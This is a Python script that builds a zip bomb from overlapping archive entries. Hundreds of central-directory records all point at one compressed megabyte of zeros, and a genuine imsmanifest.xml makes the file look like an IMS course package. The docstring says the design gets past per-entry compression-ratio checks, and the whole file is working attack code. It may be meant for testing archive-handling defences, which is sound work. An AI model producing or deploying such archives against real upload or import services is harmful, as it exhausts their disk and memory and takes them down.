#!/usr/bin/env python3
"""Writes a zip bomb made of overlapping entries: COUNT central-directory entries that all point at one local header
and its deflated megabyte of zeros, beside a real imsmanifest.xml. Each entry is small enough to be exempt from a
per-entry ratio check; together they expand COUNT times from a few kilobytes.

Usage: make_overlapping_zip.py OUT.zip [COUNT]
"""
import struct
import sys
import zlib


def main():
    out, count = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 200
    manifest = b'<?xml version="1.0"?><manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1"/>'
    zeros = b"\0" * (1024 * 1024)
    blobs = [(b"imsmanifest.xml", manifest), (b"shared.html", zeros)]
    data, offsets, records = b"", [], []
    for name, content in blobs:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = packer.compress(content) + packer.flush()
        crc = zlib.crc32(content)
        offsets.append(len(data))
        records.append((crc, len(body), len(content)))
        data += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), len(content), len(name), 0)
        data += name + body
    entries = [(b"imsmanifest.xml", 0)] + [(b"pages/p%04d.html" % n, 1) for n in range(count)]
    central = b""
    for name, blob in entries:
        crc, packed, size = records[blob]
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, packed, size,
                               len(name), 0, 0, 0, 0, 0, offsets[blob]) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(data), 0)
    with open(out, "wb") as handle:
        handle.write(data + central + end)


if __name__ == "__main__":
    main()
